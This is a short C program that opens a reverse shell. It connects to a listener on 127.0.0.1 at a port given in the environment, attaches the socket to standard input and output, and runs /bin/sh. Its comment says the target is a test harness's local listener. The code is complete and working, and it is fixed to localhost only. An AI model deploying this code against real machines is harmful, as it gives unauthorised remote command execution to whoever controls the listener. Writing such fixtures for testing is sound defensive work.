// reverse_shell: connects to the harness's listener on 127.0.0.1:$PORT,
// puts the socket on stdin/stdout/stderr and execs /bin/sh, which runs the
// commands the listener sends ("id; exit").
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
	const char *port = getenv("PORT");
	if (!port)
		return 2;
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(port))};
	inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
	if (connect(fd, (struct sockaddr *)&a, sizeof a) != 0)
		return 1;
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	char *argv[] = {"sh", NULL};
	execv("/bin/sh", argv);
	return 1;
}
